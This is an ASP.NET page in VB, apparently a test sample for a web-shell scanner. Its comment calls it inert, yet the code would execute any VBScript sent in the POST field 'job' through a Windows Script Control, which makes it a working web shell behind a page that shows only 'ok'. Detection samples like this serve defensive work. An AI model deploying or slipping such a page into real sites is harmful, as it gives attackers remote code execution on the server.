<%@ Page Language="VB" Strict="false" %>
<%-- webhunt test sample (inert text): a Windows Script Control given the page's Request object
     and a statement to run; the script it runs reads the request itself. --%>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim engine As Object = Server.CreateObject("MSScriptControl.ScriptControl")
    engine.Language = "VBScript"
    engine.AddObject("Response", Response)
    engine.AddObject("Request", Request)
    engine.ExecuteStatement("Execute Request.Form(""job"")")
End Sub
</script>
<html><body>ok</body></html>
